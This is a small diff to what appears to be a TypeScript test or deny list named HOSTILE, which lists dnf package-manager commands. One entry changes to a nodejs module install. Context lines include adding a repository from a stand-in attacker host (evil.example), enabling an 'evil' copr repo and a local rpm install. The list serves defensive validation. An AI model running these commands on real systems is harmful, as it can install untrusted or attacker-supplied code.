@@ -106,7 +106,7 @@ const HOSTILE: Hostile = {
     'dnf reinstall -y curl',
     'dnf swap curl-minimal curl',
     'dnf distro-sync -y',
-    'dnf module enable -y nodejs',
+    'dnf module install -y nodejs:20',
     'dnf config-manager --add-repo https://evil.example/x.repo',
     'dnf copr enable evil/repo',
     'dnf localinstall ./x.rpm',
